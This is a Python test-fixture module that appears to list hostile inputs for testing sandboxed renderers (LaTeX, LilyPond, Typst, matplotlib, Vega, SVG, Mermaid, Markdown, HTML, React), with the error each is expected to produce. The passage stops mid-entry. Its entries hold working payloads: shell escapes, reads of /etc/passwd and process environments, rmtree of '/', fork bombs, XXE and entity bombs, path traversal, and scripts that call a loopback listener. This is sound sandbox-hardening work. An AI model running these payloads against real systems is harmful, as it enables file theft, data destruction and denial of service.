"""Completions that attack the machine, for the hostile tests and for `benchmarks/soak.py`.

Every attack knows a file of the host (`CANARY`), which it may try to read or overwrite, and the
port of a listener on the host's loopback (`PORT`). `HUGE` stands for 200 million characters.
"""

import json
from typing import Any, NamedTuple

ENDLESS_SECONDS = 0.4
"""Of processor time; what ends as `timeout` needs more on any machine."""


class Attack(NamedTuple):
    """What a model wrote, and the kind of error it ends with (``drawn``: none).

    One, whatever isolates it: of one thing it wants far more than of all others.
    """

    code: str
    end: str


def page(script: str = "", body: str = "before", **files: str) -> str:
    listed = {"index.html": f"<body>{body}<script>{script}</script>", **files}
    return json.dumps([{"filename": name, "content": text} for name, text in listed.items()])


def named(name: str) -> str:
    return json.dumps([{"filename": name, "content": "x"}, *json.loads(page())])


def score(scheme: str) -> str:
    return f'\\version "2.24.0" #(begin {scheme}) {{ c }}'


LATEX = {
    "input": Attack(r"\input{CANARY}", "syntax"),
    "input of a system file": Attack(r"\input{/etc/passwd}", "syntax"),
    "openin": Attack(r"\newread\f \openin\f=CANARY \ifeof\f $x^2$\else\read\f to\t \t\fi", "drawn"),
    "openout": Attack(r"\newwrite\f \immediate\openout\f=CANARY x", "syntax"),
    "write18": Attack(r"\immediate\write18{echo gone > CANARY} x", "drawn"),
    "piped input": Attack(r"\input{|'cat CANARY'}", "syntax"),
    "endless loop": Attack(r"\loop\iftrue\repeat", "timeout"),
    "endless macro": Attack(r"\def\x{\x}\x", "timeout"),
    "growing macro": Attack(r"\def\x{\x\x}\x", "syntax"),
    "box bomb": Attack(
        r"\newcount\n \loop\setbox0\vbox{\copy0\copy0 x}\advance\n1 \ifnum\n<99\repeat", "syntax"
    ),
    "endless pages": Attack(r"\loop \null\newpage\iftrue\repeat", "timeout"),
    "endless log": Attack(r"\loop\message{aaaaaaaaaaaaaaaa}\iftrue\repeat", "timeout"),
    "endless file": Attack(
        r"\newwrite\f \immediate\openout\f=f \loop\immediate\write\f{aaaaaaaaaa}\iftrue\repeat",
        "timeout",
    ),
    "page without end": Attack(r"\pdfpagewidth=16000pt\pdfpageheight=16000pt x", "resource"),
    "two hundred megabytes": Attack("HUGE", "resource"),
}

WEBPAGE = {
    "name that climbs": Attack(named("../../../CANARY"), "syntax"),
    "name that climbs inside": Attack(named("a/../../CANARY"), "syntax"),
    "absolute name": Attack(named("CANARY"), "syntax"),
    "name with NUL": Attack(named("a\0b"), "syntax"),
    "name of 5,000 characters": Attack(named("a" * 5000), "syntax"),
    "10,000 files": Attack(page(**{f"{n}.css": "" for n in range(10_000)}), "drawn"),
    "10,000 files for Jekyll": Attack(
        page(**{"_config.yml": ""}, **{f"{n}.css": "" for n in range(10_000)}), "timeout"
    ),
    "two hundred megabytes": Attack(page(body="HUGE"), "resource"),
    "deep JSON": Attack("[" * 1_000_000, "syntax"),
    "fetch": Attack(
        page(
            "fetch('http://127.0.0.1:PORT/');new Image().src='http://127.0.0.1:PORT/i.png';"
            "new WebSocket('ws://127.0.0.1:PORT/');navigator.sendBeacon('http://127.0.0.1:PORT/')"
        ),
        "drawn",
    ),
    "peer connection": Attack(
        page(
            "const c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:PORT'}]});"
            "c.createDataChannel('');c.createOffer().then(o=>c.setLocalDescription(o))"
        ),
        "drawn",
    ),
    "worker": Attack(
        page(
            'new Worker(URL.createObjectURL(new Blob([\'fetch("http://127.0.0.1:PORT/");'
            "for(;;);'])))"
        ),
        "timeout",
    ),
    "local file": Attack(
        page(
            "fetch('file://CANARY').then(r=>r.text()).then(t=>document.body.append(t));"
            "location='file://CANARY'",
            "<iframe src='file://CANARY'></iframe><object data='file://CANARY'></object>",
        ),
        "drawn",
    ),
    "navigation": Attack(page("location='http://127.0.0.1:PORT/'"), "drawn"),
    "refresh": Attack(
        page(body="<meta http-equiv=refresh content='0;url=http://127.0.0.1:PORT/'>"), "drawn"
    ),
    "reload without end": Attack(page("location.reload()"), "drawn"),
    "pop-ups": Attack(page("for(let i=0;i<50;i++)window.open('http://127.0.0.1:PORT/')"), "drawn"),
    "dialogs": Attack(page("alert(1);confirm(2);prompt(3);print()"), "drawn"),
    "dialogs without end": Attack(page("for(;;)alert(1)"), "timeout"),
    "close": Attack(page("window.close()"), "drawn"),
    "download": Attack(
        page("const a=document.createElement('a');a.href='data:,x';a.download='CANARY';a.click()"),
        "drawn",
    ),
    "endless loop": Attack(page("for(;;);"), "timeout"),
    "endless timers": Attack(page("(function f(){setTimeout(f)})()"), "drawn"),
    "endless promises": Attack(page("(function f(){Promise.resolve().then(f)})()"), "timeout"),
    "allocation of objects": Attack(
        page("const a=[];for(;;)a.push(new Array(1e4).fill(0.5))"), "resource"
    ),
    "allocation of buffers": Attack(
        page("const a=[];for(;;)a.push(new Uint8Array(1e8).fill(1))"), "resource"
    ),
    "allocation of canvases": Attack(
        page(
            "const a=[];for(;;){const c=document.createElement('canvas');c.width=c.height=4000;"
            "const x=c.getContext('2d');x.fillRect(0,0,4000,4000);a.push(x.getImageData(0,0,1,1),c)}"
        ),
        "resource",
    ),
    "frames in frames": Attack(
        page(**{"index.html": "<iframe src='/'></iframe><iframe src='/?2'></iframe>before"}),
        "drawn",
    ),
    "drawing bomb": Attack(
        page(
            body="<svg>"
            + "".join(
                f"<g id=g{n}>" + f"<use href='#g{n - 1}'/>" * 10 + "</g>" for n in range(1, 12)
            )
            + "<g id=g0><circle r=9 /></g></svg>"
        ),
        "timeout",
    ),
    "Ruby in _plugins": Attack(
        page(
            **{
                "_config.yml": "safe: false\nplugins_dir: _plugins\n",
                "_plugins/x.rb": "File.write('CANARY', 'gone'); raise 'ran'",
            }
        ),
        "drawn",
    ),
    "Jekyll's include": Attack(
        page(**{"a.md": "---\n---\n{% include ../../../../../CANARY %}"}), "syntax"
    ),
    "Jekyll's include of itself": Attack(
        page(**{"a.md": "---\n---\n{% include a %}", "_includes/a": "{% include a %}"}), "syntax"
    ),
    "Jekyll's loop": Attack(
        page(**{"a.md": "---\n---\n{% for i in (1..999999999) %}{{ i }}{% endfor %}"}),
        "timeout",
    ),
    "Jekyll's folders": Attack(
        page(**{"_config.yml": "source: /\ndestination: /\nlayouts_dir: /\nincludes_dir: /etc\n"}),
        "drawn",
    ),
}

LILYPOND = {
    "system": Attack(score('(system "echo gone > CANARY")'), "drawn"),
    "open-output-file": Attack(score('(open-output-file "CANARY")'), "syntax"),
    "include": Attack('\\version "2.24.0" \\include "CANARY" { c }', "drawn"),
    "read": Attack(
        '\\version "2.24.0" \\markup #(call-with-input-file "CANARY" read-line) { c }',
        "syntax",
    ),
    "connect": Attack(
        score(
            "(let ((s (socket PF_INET SOCK_STREAM 0)))"
            '(connect s AF_INET (inet-pton AF_INET "127.0.0.1") PORT))'
        ),
        "syntax",
    ),
    "exit": Attack(score("(primitive-exit 0)"), "empty"),
    "endless loop": Attack(score("(let loop () (loop))"), "timeout"),
    "endless recursion": Attack(score("(let f ((x 0)) (+ 1 (f x)))"), "timeout"),
    # Each process that is refused more holds what it has: all together have too much.
    "allocation": Attack(
        score(
            "(primitive-fork) (primitive-fork) (let loop ((a '())) (loop (catch #t (lambda () "
            "(cons (make-vector 1000000 0.5) a)) (lambda _ (sleep 1000) a))))"
        ),
        "resource",
    ),
    "allocation at once": Attack(score("(make-vector 1000000000 0.5)"), "drawn"),
    "fork bomb": Attack(score("(let loop () (primitive-fork) (loop))"), "resource"),
    "process that stays": Attack(
        score("(if (zero? (primitive-fork)) (begin (setsid) (let loop () (sleep 1000) (loop))))"),
        "drawn",
    ),
    "the server's end": Attack(
        score("(catch #t (lambda () (kill (getppid) SIGKILL)) (const #f))"), "drawn"
    ),
    "everyone's end": Attack(score("(catch #t (lambda () (kill -1 SIGKILL)) (const #f))"), "drawn"),
    "the server's pipes": Attack(
        score(
            '(for-each (lambda (n) (catch #t (lambda () (let ((p (fdopen n "w")))'
            '(display "0 0 0 1 0\\n" p) (force-output p))) (const #f))) (iota 64))'
        ),
        "drawn",
    ),
    "files left behind": Attack(
        score('(system "mkdir ../left; echo x > ../left/x; echo x > ../score.ly")'), "drawn"
    ),
    "folder that can't be removed": Attack(
        score('(system "mkdir -p a/b; echo > a/b/c; chmod 0 a/b a")'), "drawn"
    ),
    "folder that can't be read": Attack(score('(system "chmod 0 ..")'), "drawn"),
    "full scratch folder": Attack(score('(system "cat /dev/urandom > ../fill")'), "drawn"),
}


def document(body: str) -> str:
    return "\\documentclass{article}\\begin{document}" + body + "\\end{document}"


LATEX_DOCUMENT = {
    "write18": Attack(document(r"\immediate\write18{echo gone > CANARY} x"), "drawn"),
    "piped input": Attack(document(r"\input{|'cat CANARY'}"), "syntax"),
    "input": Attack(document(r"\input{CANARY}"), "syntax"),
    "listing of a file": Attack(
        r"\documentclass{article}\usepackage{listings}\begin{document}"
        r"\lstinputlisting{CANARY}x\end{document}",
        "syntax",
    ),
    "openout": Attack(document(r"\newwrite\f \immediate\openout\f=CANARY x"), "syntax"),
    "endless loop": Attack(document(r"\loop\iftrue\repeat"), "timeout"),
    "endless errors": Attack(document(r"\loop\nope\iftrue\repeat"), "syntax"),
    "endless pages": Attack(document(r"\loop \null\newpage\iftrue\repeat"), "timeout"),
    "page without end": Attack(
        document(r"\pdfpagewidth=16000pt\pdfpageheight=16000pt x"), "resource"
    ),
}
TIKZ = {
    "plot by gnuplot": Attack(
        r"\begin{tikzpicture}\draw plot[id=f] function{system('echo gone > CANARY')};"
        r"\end{tikzpicture}",
        "drawn",
    ),
    "write18": Attack(
        r"\begin{tikzpicture}\node{\immediate\write18{echo gone > CANARY}};\end{tikzpicture}",
        "drawn",
    ),
    "table of a file": Attack(
        r"\begin{tikzpicture}\begin{axis}\addplot table{CANARY};\end{axis}\end{tikzpicture}",
        "drawn",
    ),
    "endless drawing": Attack(
        r"\begin{tikzpicture}\loop\draw (0,0) -- (1,1);\iftrue\repeat\end{tikzpicture}",
        "timeout",
    ),
    "huge picture": Attack(
        r"\begin{tikzpicture}\draw (0,0) rectangle (500,500);\end{tikzpicture}",
        "resource",
    ),
}

TYPST = {
    "read": Attack('#read("CANARY")', "syntax"),
    "read above": Attack('#read("../../../../../../CANARY")', "syntax"),
    "read of a system file": Attack('#read("/etc/passwd")', "syntax"),
    "include": Attack('#include "CANARY"', "syntax"),
    "image": Attack('#image("CANARY")', "syntax"),
    "package": Attack('#import "@preview/cetz:0.3.1": *', "missing"),
    "local package": Attack('#import "@local/../../etc:1.0.0": *', "syntax"),
    "endless loop": Attack("#while true { }", "syntax"),
    "loops in loops": Attack(
        "#for a in range(9999) { for b in range(9999) { for c in range(9999) { } } }",
        "timeout",
    ),
    "endless recursion": Attack("#let f() = f()\n#f()", "syntax"),
    "growing text": Attack('#let t = "x"\n#for i in range(99) { t = t + t }\n#t', "timeout"),
    "endless pages": Attack("#for i in range(99999) { pagebreak() }", "timeout"),
    "page without end": Attack("#set page(width: 1000cm, height: 1000cm)\nx", "resource"),
    "deep nesting": Attack("#[" * 100_000, "syntax"),
    "WebAssembly": Attack("#plugin(bytes((0, 97, 115, 109, 1, 0, 0, 0))).f()", "syntax"),
}
MATPLOTLIB = {
    "os.system": Attack("import os\nos.system('echo gone > CANARY')", "empty"),
    "subprocess": Attack(
        "import subprocess\nsubprocess.run(['sh', '-c', 'cat CANARY; id; echo gone > CANARY'])",
        "empty",
    ),
    "read": Attack("print(open('CANARY').read())", "syntax"),
    "write": Attack("open('CANARY', 'w').write('gone')", "syntax"),
    "picture elsewhere": Attack("plt.plot([1])\nplt.savefig('CANARY.png')", "drawn"),
    "remove all": Attack(
        "import os, shutil\nshutil.rmtree(os.path.dirname('CANARY'), ignore_errors=True)\n"
        "shutil.rmtree('/', ignore_errors=True)\nos._exit(0)",
        "empty",
    ),
    "socket": Attack("import socket\nsocket.create_connection(('127.0.0.1', PORT), 1)", "syntax"),
    "URL": Attack("import pandas as pd\npd.read_csv('http://127.0.0.1:PORT/data.csv')", "missing"),
    "our packages": Attack(
        "try:\n    import helm, torch, helm_structext\nexcept ImportError:\n    raise SystemExit('none')",
        "syntax",
    ),
    "process of another": Attack(
        "import os\nprint(open(f'/proc/{os.getppid()}/environ').read())", "syntax"
    ),
    "fork bomb": Attack("import os\nwhile True:\n    os.fork()", "resource"),
    "processes that stay": Attack(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)", "empty"
    ),
    "threads": Attack(
        "import threading, time\nfor n in range(5000):\n"
        "    threading.Thread(target=time.sleep, args=(1000,)).start()",
        "syntax",
    ),
    "the server's end": Attack(
        "import os\ntry:\n    os.kill(os.getppid(), 9)\nexcept OSError:\n    plt.plot([1])", "drawn"
    ),
    "everyone's end": Attack(
        "import os\ntry:\n    os.kill(-1, 9)\nexcept OSError:\n    pass\nplt.plot([1])", "drawn"
    ),
    "own end": Attack("import os\nos.abort()", "resource"),
    "crash": Attack("import ctypes\nctypes.string_at(0)", "resource"),
    "the server's pipes": Attack(
        "import os\nfor n in range(64):\n    try:\n        os.write(n, b'{\"status\": 0}\\n')\n"
        "    except OSError:\n        pass",
        "empty",
    ),
    "reply that is none": Attack(
        "import os\nopen('../failure', 'w').write('[1, {}]')\nos._exit(0)",
        "empty",
    ),
    "picture that is a program": Attack(
        "import os\nopen('../page', 'w').write('%!PS-Adobe-3.0 EPSF-3.0\\n"
        "%%BoundingBox: 0 0 9 9\\n(CANARY) (w) file (gone) writestring showpage')\nos._exit(0)",
        "syntax",
    ),
    "picture that is a link": Attack(
        "import os\nos.symlink('CANARY', '../page')\nos._exit(0)", "empty"
    ),
    "picture that is a pipe": Attack("import os\nos.mkfifo('../page')\nos._exit(0)", "empty"),
    "endless loop": Attack("while True: pass", "timeout"),
    "endless print": Attack("while True: print('x' * 1000)", "resource"),
    "endless recursion": Attack("def f():\n    f()\nf()", "syntax"),
    "stack overflow": Attack(
        "x = iter([])\nfor _ in range(10**6):\n    x = map(abs, x)\nnext(x)", "resource"
    ),
    "allocation": Attack(
        "import os, time\nos.fork(), os.fork()\na = []\nwhile True:\n    try:\n"
        "        a.append(bytearray(10**7))\n    except MemoryError:\n        time.sleep(1000)",
        "resource",
    ),
    "allocation at once": Attack("bytearray(10**12)", "resource"),
    "full disk": Attack(
        "import os\ntry:\n    with open('fill', 'wb') as f:\n        while True:\n"
        "            f.write(bytes(10**6))\nfinally:\n    os.abort()",
        "resource",
    ),
    "files left behind": Attack(
        "import os\nos.makedirs('../../left/x')\nos.chmod('../../left', 0)", "empty"
    ),
    "folder that can't be removed": Attack(
        "import os\nos.makedirs('a/b')\nopen('a/b/c', 'w')\nos.chmod('a', 0)", "empty"
    ),
    "huge figure": Attack(
        "plt.figure(figsize=(600, 600)).text(0, 0, 'x')\nplt.plot([1])",
        "resource",
    ),
    "clean-up that fails": Attack(
        "import atexit\natexit.register(lambda: 1 / 0)\nplt.plot([1])", "drawn"
    ),
    "patched library": Attack(
        "import matplotlib.figure\nmatplotlib.figure.Figure.savefig = None\nplt.plot = None\n"
        "plt.rcParams['figure.facecolor'] = 'red'\nplt.figure()",
        "drawn",
    ),
}


def chart(**parts: Any) -> str:
    point = {"data": {"values": [{"a": 1}]}, "mark": "point"}
    return json.dumps(point | {"encoding": {"x": {"field": "a", "type": "nominal"}}} | parts)


def vega(**parts: Any) -> str:
    return json.dumps({"$schema": "https://vega.github.io/schema/vega/v5.json"} | parts)


VEGA = {
    "data URL": Attack(chart(data={"url": "http://127.0.0.1:PORT/data.csv"}), "drawn"),
    "data file": Attack(
        chart(data={"url": "file://CANARY", "format": {"type": "dsv", "delimiter": " "}}),
        "drawn",
    ),
    "system file": Attack(chart(data={"url": "/etc/passwd"}), "drawn"),
    "image": Attack(
        vega(
            marks=[
                {"type": "image", "encode": {"enter": {"url": {"value": "http://127.0.0.1:PORT/"}}}}
            ]
        ),
        "drawn",
    ),
    "link": Attack(chart(mark={"type": "point", "href": "javascript:alert(1)"}), "drawn"),
    "configuration from elsewhere": Attack(
        chart(usermeta={"embedOptions": {"config": "http://127.0.0.1:PORT/", "actions": True}}),
        "syntax",
    ),
    "call of any function": Attack(
        vega(
            signals=[
                {
                    "name": "s",
                    "init": "[].constructor.constructor('return fetch(`http://127.0.0.1:PORT/`)')()",
                }
            ]
        ),
        "syntax",
    ),
    "script in place of a chart": Attack(
        "(fetch('http://127.0.0.1:PORT/'), document.body.innerHTML = 'gone', {})",
        "syntax",
    ),
    "endless script": Attack("(() => { for (;;); })()", "timeout"),
    "endless data": Attack(chart(data={"sequence": {"start": 0, "stop": 1e9}}), "timeout"),
    "crossed data": Attack(
        vega(
            data=[
                {
                    "name": "t",
                    "transform": [
                        {"type": "sequence", "start": 0, "stop": 1e5},
                        {"type": "cross"},
                    ],
                }
            ]
        ),
        "timeout",
    ),
    "huge chart": Attack(chart(width=1e6, height=1e6), "drawn"),
    "endless timer": Attack(
        vega(signals=[{"name": "s", "on": [{"events": "timer{1}", "update": "now()"}]}]),
        "drawn",
    ),
    "deep JSON": Attack("[" * 100_000, "syntax"),
    "end of the script": Attack(chart(title="</script><script>for(;;);</script>"), "drawn"),
}


def svg(body: str, before: str = "") -> str:
    space = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    return f"{before}<svg {space} width='90' height='90'>{body}<circle r='9'/></svg>"


SVG = {
    "script": Attack(
        svg("<script>fetch('http://127.0.0.1:PORT/'); alert(document.cookie)</script>"), "drawn"
    ),
    "handler": Attack(
        svg("<rect width='9' height='9' onload=\"location='http://127.0.0.1:PORT/'\"/>"), "drawn"
    ),
    "image from elsewhere": Attack(
        svg("<image href='http://127.0.0.1:PORT/a.png' width='9' height='9'/>"), "drawn"
    ),
    "image of the host": Attack(
        svg("<image xlink:href='file://CANARY' width='9' height='9'/>"), "drawn"
    ),
    "use from elsewhere": Attack(svg("<use href='http://127.0.0.1:PORT/a.svg#a'/>"), "drawn"),
    "style from elsewhere": Attack(
        svg("<style>@import url(http://127.0.0.1:PORT/a.css);</style>"), "drawn"
    ),
    "style sheet of the document": Attack(
        svg("", "<?xml-stylesheet href='http://127.0.0.1:PORT/a.css'?>"), "drawn"
    ),
    "external entity": Attack(
        svg("<text>&f;</text>", "<!DOCTYPE svg [<!ENTITY f SYSTEM 'file://CANARY'>]>"), "drawn"
    ),
    "entity from elsewhere": Attack(
        svg("", "<!DOCTYPE svg [<!ENTITY % f SYSTEM 'http://127.0.0.1:PORT/'> %f;]>"), "drawn"
    ),
    "document type from elsewhere": Attack(
        svg("", "<!DOCTYPE svg SYSTEM 'http://127.0.0.1:PORT/a.dtd'>"), "drawn"
    ),
    "entity bomb": Attack(
        svg(
            "<text>&e9;</text>",
            "<!DOCTYPE svg [<!ENTITY e0 'ha'>"
            + "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 20}'>" for n in range(1, 10))
            + "]>",
        ),
        "drawn",
    ),
    "entity bomb in an attribute": Attack(
        svg(
            "<text fill='&e9;'>x</text>",
            "<!DOCTYPE svg [<!ENTITY e0 'ha'>"
            + "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 20}'>" for n in range(1, 10))
            + "]>",
        ),
        "syntax",
    ),
    "drawing bomb": Attack(
        svg(
            "".join(
                f"<g id='g{n}'>" + f"<use href='#g{n - 1}'/>" * 10 + "</g>" for n in range(1, 9)
            )
            + "<g id='g0'><circle r='9'/></g>"
        ),
        "timeout",
    ),
    "filter bomb": Attack(
        svg(
            "<filter id='f' width='900' height='900'>"
            + "<feGaussianBlur stdDeviation='500'/>" * 200
            + "</filter><rect width='9000' height='9000' filter='url(#f)'/>"
        ),
        "drawn",
    ),
    "frame": Attack(
        svg(
            "<foreignObject width='90' height='90'><iframe xmlns='http://www.w3.org/1999/xhtml' "
            "src='file://CANARY'></iframe></foreignObject>"
        ),
        "drawn",
    ),
    "huge drawing": Attack(
        "<svg width='999999' height='999999'><rect width='100%' height='100%'/></svg>",
        "drawn",
    ),
    "endless script": Attack(svg("<script>for(;;);</script>"), "timeout"),
    "deep nesting": Attack("<svg>" + "<g>" * 50_000 + "</g>" * 50_000 + "</svg>", "drawn"),
    "many elements": Attack(svg("<circle r='9'/>" * 300_000), "timeout"),
}
MARKDOWN = {
    "script": Attack(
        "# before\n\n<script>fetch('http://127.0.0.1:PORT/')\nlocation='file://CANARY'</script>",
        "drawn",
    ),
    "image": Attack("![x](http://127.0.0.1:PORT/a.png) ![y](file://CANARY)", "drawn"),
    "frame": Attack("<iframe src='file://CANARY'></iframe>\n\ntext", "drawn"),
    "refresh": Attack(
        "text\n\n<meta http-equiv=refresh content='0;url=http://127.0.0.1:PORT/'>", "drawn"
    ),
    "end of the page": Attack("</body></html><script>for(;;);</script>", "timeout"),
    "allocation": Attack(
        "<script>const a=[];for(;;)a.push(new Array(1e4).fill(0.5))</script>", "resource"
    ),
    "close": Attack("text\n\n<script>window.close()</script>", "drawn"),
    "open brackets": Attack("[" * 200_000, "timeout"),
    "open links": Attack("[a](" * 50_000, "timeout"),
    "deep quotes": Attack(">" * 100_000 + "x", "drawn"),
    "deep lists": Attack("".join(" " * 2 * n + "- x\n" for n in range(3000)), "timeout"),
    "stars": Attack("*a **a " * 50_000, "timeout"),
    "wide table": Attack(
        "|" + "a|" * 3000 + "\n|" + "-|" * 3000 + "\n" + "|b|\n" * 3000,
        "timeout",
    ),
}


def flow(*lines: str) -> str:
    return "\n  ".join(["flowchart TD", "A --> B", *lines])


MERMAID = {
    "click on a call": Attack(flow("click A call alert(1)", "click B fetch"), "drawn"),
    "click on a link": Attack(
        flow('click A "javascript:fetch(`http://127.0.0.1:PORT/`)" _self'), "drawn"
    ),
    "click on a file": Attack(flow('click A "file://CANARY" _blank'), "drawn"),
    "script in a label": Attack(
        flow("C[\"<script>fetch('http://127.0.0.1:PORT/')</script>x\"]"), "drawn"
    ),
    "handler in a label": Attack(
        flow("C[\"<img src=x onerror='location=`http://127.0.0.1:PORT/`'>\"]"), "drawn"
    ),
    "frame in a label": Attack(flow("C[\"<iframe src='file://CANARY'></iframe>\"]"), "drawn"),
    "image from elsewhere": Attack(
        flow('C@{ img: "http://127.0.0.1:PORT/a.png", label: "x", w: 60, h: 60 }'),
        "syntax",
    ),
    "image of the host": Attack(
        flow('C@{ img: "file://CANARY", label: "x", w: 60, h: 60 }'), "syntax"
    ),
    "style from elsewhere": Attack(
        '%%{init: {"themeCSS": "@import url(http://127.0.0.1:PORT/a.css); '
        'g { background: url(http://127.0.0.1:PORT/) }", "fontFamily": "x; } @import url(x);"}}%%\n'
        + flow(),
        "drawn",
    ),
    "prototype of all": Attack(
        '%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"x": 1}}}}%%\n'
        + flow(),
        "drawn",
    ),
    "configuration bomb": Attack(
        "---\nconfig:\n  a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(
            f"  {name}: &{name} [{','.join(['*' + last] * 9)}]\n"
            for last, name in zip("abcdefgh", "bcdefghi", strict=True)
        )
        + "---\n"
        + flow(),
        "drawn",
    ),
    "many edges": Attack(
        "%%{init: {'maxEdges': 99999999, 'maxTextSize': 99999999}}%%\n"
        + flow(*(f"N{n} --> N{n * 7 % 5000}" for n in range(5000))),
        "drawn",
    ),
    "deep subgraphs": Attack(
        flow(*(f"subgraph S{n}" for n in range(2000)), *["end"] * 2000),
        "timeout",
    ),
    "long label": Attack(flow(f"C[{'x' * 40_000}]"), "drawn"),
    "long text": Attack(flow("%% " + "x" * 5_000_000), "drawn"),
    "end of the script": Attack(flow('C["</script><script>for(;;);</script>"]'), "drawn"),
    "centuries of days": Attack(
        "gantt\n  dateFormat YYYY-MM-DD\n  tickInterval 1millisecond\n  A: 0001-01-01, 9999-12-31",
        "drawn",
    ),
}


def shown(script: str) -> str:
    return f"<body>before<script>{script}</script>"


# What a page does is tried with `WEBPAGE`; here is what only whole pages and packages open.
HTML = {
    "fetch": Attack(
        shown(
            "fetch('http://127.0.0.1:PORT/');new Image().src='http://127.0.0.1:PORT/i.png';"
            "new WebSocket('ws://127.0.0.1:PORT/');new EventSource('http://127.0.0.1:PORT/')"
        ),
        "drawn",
    ),
    "local file": Attack(
        shown(
            "fetch('file://CANARY').then(r=>r.text()).then(t=>document.body.append(t));"
            "document.body.append(Object.assign(document.createElement('iframe'),"
            "{src:'file://CANARY'}))"
        ),
        "drawn",
    ),
    "package that climbs": Attack(
        shown(
            "for (const up of ['../', '..%2f', '%2e%2e/', '..\\\\'])"
            "for (const host of ['https://unpkg.com/jquery@3/', 'https://fonts.gstatic.com/',"
            "'https://code.jquery.com/', 'http://packages.localhost/', 'https://cdn.jsdelivr.net/npm/'])"
            "fetch(host + up.repeat(20) + 'CANARY').then(r=>r.text())"
            ".then(t=>document.body.append(t))"
        ),
        "drawn",
    ),
    "comments without end": Attack("<!--a-->" * 50_000 + "before", "timeout"),
    "tags left open": Attack("before" + "<script " * 500_000, "drawn"),
    "scripts for Babel, left open": Attack(
        "before" + "<script type=text/babel>" * 100_000, "drawn"
    ),
    "scripts for Babel": Attack("<script type=text/babel>1</script>\n" * 50_000, "resource"),
    "page of many heights": Attack(
        shown("setInterval(()=>document.body.style.height=Math.random()*1e7+'px',10)"), "drawn"
    ),
    "page of noise": Attack(
        "<body style='margin:0'><canvas id=c width=2560 height=10000></canvas><script>"
        "const g=c.getContext('2d'),d=g.createImageData(2560,10000);let s=1;"
        "for(let i=0;i<d.data.length;i++)d.data[i]=(s=s*16807%2147483647);g.putImageData(d,0,0)"
        "</script>",
        "timeout",
    ),
    "endless errors": Attack(
        shown("setInterval(()=>{throw new Error('x'.repeat(1e6))},0)"),
        "timeout",
    ),
    "endless messages": Attack(
        shown("const x='x'.repeat(1e4);for(;;)console.error(x)"), "resource"
    ),
    "endless requests": Attack(
        shown("(function f(n){fetch('https://example.com/'+n);setTimeout(f,0,n+1)})(0)"),
        "drawn",
    ),
    "endless loop": Attack(shown("for(;;);"), "timeout"),
    "allocation": Attack(shown("const a=[];for(;;)a.push(new Array(1e4).fill(0.5))"), "resource"),
}
CANVAS = {
    "huge canvas": Attack(
        "const c=document.getElementById('c');c.style.width=c.style.height='99px';"
        "c.width=c.height=60000;c.getContext('2d').fillRect(0,0,9,9)",
        "drawn",
    ),
    "fetch": Attack(
        "const i=new Image();i.src='http://127.0.0.1:PORT/';"
        "i.onload=()=>document.getElementById('c').getContext('2d').drawImage(i,0,0)",
        "drawn",
    ),
    "endless loop": Attack("for(;;);", "timeout"),
    "allocation": Attack("const a=[];for(;;)a.push(new Array(1e4).fill(0.5))", "resource"),
}
REACT = {
    "packages of Node": Attack(
        "import {execSync} from 'child_process';execSync('echo gone > CANARY');"
        "export default () => <p/>",
        "syntax",
    ),
    "packages of Node, by their prefix": Attack(
        "import fs from 'node:fs';fs.writeFileSync('CANARY','gone');export default () => <p/>",
        "syntax",
    ),
    "require": Attack(
        "require('fs').writeFileSync('CANARY','gone');export default () => <p/>", "syntax"
    ),
    "import of a file": Attack(
        "import text from 'CANARY';export default () => <p>{text}</p>", "syntax"
    ),
    "import of a file that climbs": Attack(
        "import text from '../../../../../../../../..CANARY';export default () => <p>{text}</p>",
        "syntax",
    ),
    "import of a file by its address": Attack(
        "import text from 'file://CANARY';export default () => <p>{text}</p>", "syntax"
    ),
    "import of a package's insides": Attack(
        "import {spawn} from 'esbuild';export default () => <p>{spawn}</p>", "missing"
    ),
    "import from a host": Attack(
        "import x from 'http://127.0.0.1:PORT/x.js';export default () => <p>{x}</p>",
        "drawn",
    ),
    "style sheets": Attack(
        "import './a.css';export default () => <p>before</p>\n"
        "/* a.css */\n@import 'CANARY';@import 'file://CANARY';@import '/etc/passwd';"
        "@import 'bootstrap/../../../../../../CANARY.css';"
        "p{background:url(CANARY);mask:url(file://CANARY)}",
        "syntax",
    ),
    "Sass": Attack(
        "import './a.scss';export default () => <p>before</p>\n"
        "/* a.scss */\n@use 'sass:meta';@import 'CANARY';@include meta.load-css('file://CANARY');",
        "syntax",
    ),
    "Sass without end": Attack(
        "import './a.scss';export default () => <p>before</p>\n"
        "/* a.scss */\n@while true { a { b: c } }",
        "timeout",
    ),
    "files without end": Attack("".join(f"// {n}.js\nlet a\n" for n in range(50_000)), "resource"),
    "headings": Attack(
        ("// a.js" + " " * 180 + "x\n") * 20_000 + "export default () => <p/>", "drawn"
    ),
    "heading of blanks": Attack(
        "// a.js" + " " * 3_000_000 + "x\nexport default () => <p/>", "drawn"
    ),
    "its own map": Attack(
        "import {useState, useEffect} from 'react';export default () => {const [t, set] = useState('');"
        "useEffect(() => {fetch('/index.js.map').then(r => r.text()).then(set)}, []);"
        "return <p>before {t.length}</p>}",
        "drawn",
    ),
    "configuration": Attack(
        "// tsconfig.json\n"
        '{"extends": "CANARY", "compilerOptions": {"plugins": [{"name": "CANARY"}]}}\n'
        "// package.json\n"
        '{"main": "CANARY", "scripts": {"postinstall": "echo gone > CANARY"}}\n'
        "// .babelrc.json\n"
        '{"plugins": ["CANARY"]}\n'
        "// App.jsx\nexport default () => <p>before</p>",
        "drawn",
    ),
    "pragma": Attack("/** @jsxImportSource CANARY */export default () => <p>before</p>", "syntax"),
    "source map": Attack(
        "export default () => { throw new Error('no') }\n//# sourceMappingURL=file://CANARY",
        "syntax",
    ),
    "deep nesting": Attack("export default () => " + "<a>" * 50_000 + "</a>" * 50_000, "syntax"),
    "deep brackets": Attack("export default () => " + "(" * 200_000, "syntax"),
    "giant code": Attack(
        "export default () => <p>{[" + "'xxxxxxxx'," * 800_000 + "].length}</p>",
        "timeout",
    ),
    "endless rendering": Attack(
        "export default () => { for(;;); }",
        "timeout",
    ),
    "fetch": Attack(
        "import {useEffect} from 'react';export default () => {"
